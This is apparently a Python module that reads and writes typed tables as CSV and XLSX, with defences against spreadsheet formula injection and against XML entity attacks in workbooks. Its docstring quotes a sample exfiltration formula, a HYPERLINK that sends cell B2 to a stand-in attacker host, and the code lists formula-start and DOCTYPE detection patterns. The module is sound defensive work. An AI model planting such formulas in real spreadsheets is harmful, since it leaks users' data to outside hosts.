"""Tables to and from spreadsheets: CSV with the standard library, XLSX with openpyxl.

A `Table` is a title, typed columns and rows of plain values. Writers put
dates in as real dates and money as numbers, so a spreadsheet can sort and
sum them; `read_rows` gives back each row's cells by header, with row and
column numbers for locating errors. openpyxl is the optional extra `xlsx`
and is imported only when an XLSX file is read or written.

Text is never written as a live formula (CSV injection, OWASP): text that a
spreadsheet would take for a formula, starting with `=`, `+`, `-` or `@` (also
after leading spaces) or with a tab or carriage return, is written in CSV with a
single quote in front, and in XLSX as an explicit string cell with Excel's
quote prefix. The CSV reader takes one leading quote off again, so what is
written reads back the same.

>>> print(neutralise('=HYPERLINK("http://evil.example/?"&B2,"open")'))
'=HYPERLINK("http://evil.example/?"&B2,"open")
>>> neutralise("  +44 1908 691691"), neutralise("\\tcmd"), neutralise("Portal slips")
("'  +44 1908 691691", "'\\tcmd", 'Portal slips')
>>> unquote(neutralise("'quoted'")) == "'quoted'"
True
"""

from __future__ import annotations

import csv
import enum
import io
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from .atomic import write_atomic

__all__ = [
    "CSV_FIELD_LIMIT",
    "Column",
    "Kind",
    "SheetError",
    "Table",
    "neutralise",
    "read_rows",
    "unquote",
    "write_table",
]


class Kind(enum.Enum):
    """What a column holds, which decides how a cell is written and read."""

    TEXT = "text"
    INTEGER = "integer"
    NUMBER = "number"
    MONEY = "money"
    DATE = "date"
    FLAG = "flag"


@dataclass(frozen=True)
class Column:
    """A column: its header as a programme office writes it, and what it holds."""

    header: str
    kind: Kind = Kind.TEXT
    width: int = 14


Cell = str | int | Decimal | date | bool | None


@dataclass(frozen=True)
class Table:
    """A titled table of typed columns and rows of plain values."""

    title: str
    columns: tuple[Column, ...]
    rows: tuple[tuple[Cell, ...], ...]


# Excel number formats: UK dates, whole pounds.
_FORMATS = {Kind.DATE: "dd/mm/yyyy", Kind.MONEY: '"£"#,##0.00', Kind.INTEGER: "0"}


# OWASP, "CSV Injection": cells starting with these are read as formulas by Excel,
# LibreOffice and Google Sheets; tab and carriage return start DDE payloads.
_FORMULA_STARTS = ("=", "+", "-", "@")
_CONTROL_STARTS = ("\t", "\r")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (OWASP CSV injection)."""
    return text.lstrip().startswith(_FORMULA_STARTS) or text.startswith(_CONTROL_STARTS)


def neutralise(text: str) -> str:
    """`text` made safe for a CSV cell: a single quote in front of anything formula-like.

    Text already starting with a quote gets one more, so `unquote` gives back exactly
    what was written.
    """
    return "'" + text if is_formula_like(text) or text.startswith("'") else text


def unquote(text: str) -> str:
    """The text of a CSV cell as `neutralise` was given it: one leading quote removed."""
    return text[1:] if text.startswith("'") else text


def _text(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, str):
        return neutralise(value)
    return value.isoformat() if isinstance(value, date) else str(value)


def write_table(table: Table, path: Path, fmt: str) -> None:
    """Write a table as `csv` or `xlsx`."""
    if fmt == "csv":
        stream = io.StringIO(newline="")
        writer = csv.writer(stream)
        writer.writerow([column.header for column in table.columns])
        writer.writerows([_text(value) for value in row] for row in table.rows)
        write_atomic(path, stream.getvalue())
    elif fmt == "xlsx":
        _write_xlsx(table, path)
    else:
        raise ValueError(f"unknown format {fmt!r}: use csv or xlsx")


def _openpyxl() -> Any:
    try:
        import openpyxl
    except ImportError:
        raise ImportError(
            "reading and writing .xlsx needs openpyxl: pip install 'progman[xlsx]' (or use CSV)"
        ) from None
    return openpyxl


def _write_xlsx(table: Table, path: Path) -> None:
    openpyxl = _openpyxl()
    from openpyxl.styles import Font

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = table.title[:31]  # Excel's limit on sheet names
    sheet.append([column.header for column in table.columns])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in table.rows:
        sheet.append([("yes" if v else "no") if isinstance(v, bool) else v for v in row])
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                # openpyxl makes any text starting with "=" a formula: text stays text.
                cell.data_type = "s"
                cell.quotePrefix = is_formula_like(cell.value)
    for index, column in enumerate(table.columns, start=1):
        letter = openpyxl.utils.get_column_letter(index)
        sheet.column_dimensions[letter].width = column.width
        number_format = _FORMATS.get(column.kind)
        if number_format:
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = number_format
    sheet.freeze_panes = "A2"
    data = io.BytesIO()
    book.save(data)
    write_atomic(path, data.getvalue())


@dataclass(frozen=True)
class RawRow:
    """One data row of a spreadsheet: its 1-based row number and cells by column number."""

    number: int
    cells: dict[int, Any]


class SheetError(ValueError):
    """A spreadsheet that cannot be read, at a row and column (1-based; 1, 1 for the file)."""

    def __init__(self, message: str, row: int = 1, column: int = 1) -> None:
        super().__init__(message)
        self.row = row
        self.column = column


CSV_FIELD_LIMIT = csv.field_size_limit()
"""The longest CSV cell read, in characters (the csv module's default, 131,072)."""


def read_rows(path: Path) -> tuple[list[str], Iterator[RawRow]]:
    """The header row and the data rows of a CSV or XLSX file (by its suffix).

    CSV cells come as strings; XLSX cells as openpyxl gives them (numbers,
    datetimes, strings). Empty cells are left out of `cells`. A file that cannot
    be read (not a workbook, a broken zip, a document type declaration, an unclosed
    quote, a cell over `CSV_FIELD_LIMIT` characters, a formula without a saved
    value) raises `SheetError` at the row and column concerned; the rows are read
    before this returns, so the iterator raises nothing.
    """
    if path.suffix.lower() == ".xlsx":
        return _read_xlsx(path)
    text = path.read_text(encoding="utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    records: list[tuple[int, list[str]]] = []
    try:
        for values in reader:
            records.append((reader.line_num, values))
    except csv.Error as error:
        line = reader.line_num
        if "field larger than field limit" in str(error):
            message = f"a cell longer than {CSV_FIELD_LIMIT:,} characters"
        elif "unexpected end of data" in str(error) or "expected after" in str(error):
            message = 'a quote (") opens a cell that is never closed'
        else:
            message = f"not readable as CSV: {error}"
        raise SheetError(message, line, 1) from None
    header = records[0][1] if records else []

    def rows() -> Iterator[RawRow]:
        for number, (_line, values) in enumerate(records[1:], start=2):
            texts = ((i, unquote(v.strip()).strip()) for i, v in enumerate(values, start=1))
            cells = {i: text for i, text in texts if text}
            if cells:
                yield RawRow(number, cells)

    return [h.strip() for h in header], rows()


def _refuse_doctype(path: Path) -> None:
    """Refuse a workbook whose XML parts carry a document type declaration.

    Excel never writes one; it is how entity-expansion and external-entity attacks
    work. A declaration must come before the root element, so the start of each
    part is enough to look at.
    """
    import zipfile  # here: only workbooks need it, and every command imports this module

    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                with archive.open(name) as part:
                    head = part.read(4096)
                if b"<!DOCTYPE" in head.upper() or b"<!ENTITY" in head.upper():
                    raise SheetError(
                        f"refused: the part {name} carries a document type declaration; "
                        "Excel never writes one"
                    )


def _read_xlsx(path: Path) -> tuple[list[str], Iterator[RawRow]]:
    import xml.etree.ElementTree as ET
    import zipfile
    import zlib

    openpyxl = _openpyxl()
    try:
        _refuse_doctype(path)
        book = openpyxl.load_workbook(path, read_only=True, data_only=True)
        try:
            if not book.worksheets:
                raise SheetError("the workbook has no worksheet")
            all_rows: Sequence[tuple[Any, ...]] = list(
                book.worksheets[0].iter_rows(values_only=True)
            )
        finally:
            book.close()
        _refuse_unsaved_formulas(openpyxl, path, all_rows)
    except SheetError:
        raise
    except (
        zipfile.BadZipFile,
        zipfile.LargeZipFile,
        EOFError,
        zlib.error,
        NotImplementedError,  # a zip version or compression method Python does not read
        RuntimeError,  # an encrypted member
    ) as error:
        raise SheetError(f"not an Excel workbook (.xlsx), or a damaged one: {error}") from None
    except (KeyError, IndexError, ValueError, TypeError, ET.ParseError) as error:
        raise SheetError(f"a damaged Excel workbook: {error}") from None
    except (FileNotFoundError, PermissionError, IsADirectoryError):
        raise  # the file itself cannot be opened: `load_risks` says so
    except OSError as error:  # e.g. a seek past the end from a damaged zip directory
        raise SheetError(f"a damaged Excel workbook: {error.strerror or error}") from None
    header = [str(v).strip() if v is not None else "" for v in (all_rows[0] if all_rows else ())]

    def rows() -> Iterator[RawRow]:
        for number, values in enumerate(all_rows[1:], start=2):
            cells = {
                i: (v.strip() if isinstance(v, str) else v)
                for i, v in enumerate(values, start=1)
                if v is not None and v != ""
            }
            if cells:
                yield RawRow(number, cells)

    return header, rows()


def _refuse_unsaved_formulas(openpyxl: Any, path: Path, values: Sequence[tuple[Any, ...]]) -> None:
    """A formula whose value was never saved (written by a program, not Excel) reads as
    empty: say so rather than read a blank. Only workbooks holding formulas are read twice."""
    import zipfile

    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        if not any(b"<f" in archive.read(name) for name in sheets):
            return
    book = openpyxl.load_workbook(path, read_only=True, data_only=False)
    try:
        for r, row in enumerate(book.worksheets[0].iter_rows(values_only=True), start=1):
            for c, value in enumerate(row, start=1):
                saved = (
                    values[r - 1][c - 1] if r <= len(values) and c <= len(values[r - 1]) else None
                )
                if isinstance(value, str) and value.startswith("=") and saved is None:
                    raise SheetError(
                        f"the formula {value[:40]!r} has no saved value (the file was not saved "
                        "by Excel): open and save it in Excel, or type the value",
                        r,
                        c,
                    )
    finally:
        book.close()


def cell_value(value: Any, kind: Kind) -> Any:
    """A spreadsheet cell made ready for the model: whole numbers, exact money, dates.

    Raises ValueError with a message fit for the user when the cell cannot be read.
    """
    if kind is Kind.INTEGER:
        if isinstance(value, float) and value.is_integer():
            return int(value)
        if isinstance(value, int) and not isinstance(value, bool):
            return value
        text = str(value).strip()
        if text.lstrip("-").isdigit():
            return int(text)
        raise ValueError(f"{value!r} is not a whole number")
    if kind in (Kind.MONEY, Kind.NUMBER):
        if isinstance(value, float):
            return Decimal(repr(value))
        return value  # strings such as '£1.4m' are read by the model's money type
    if kind is Kind.DATE:
        if isinstance(value, datetime):
            return value.date()
        return value  # strings must be ISO dates; the model says so otherwise
    if kind is Kind.FLAG:
        text = str(value).strip().lower()
        if text in {"yes", "y", "true", "1"}:
            return True
        if text in {"no", "n", "false", "0"}:
            return False
        raise ValueError(f"{value!r} is not yes or no")
    return str(value)
